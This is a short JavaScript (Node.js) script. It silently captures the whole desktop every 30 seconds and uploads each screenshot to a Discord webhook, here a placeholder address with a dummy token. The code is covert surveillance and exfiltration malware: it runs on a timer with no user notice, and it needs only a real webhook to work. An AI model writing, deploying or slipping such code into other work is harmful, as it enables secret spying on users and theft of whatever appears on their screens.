const screenshot = require('screenshot-desktop')
const HOOK = 'https://discord.invalid/api/webhooks/000000000000000000/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'
setInterval(async () => {
  const picture = await screenshot({ format: 'png' })
  const form = new FormData()
  form.append('file', new Blob([picture]), 'a.png')
  await fetch(HOOK, { method: 'POST', body: form })
}, 30000)
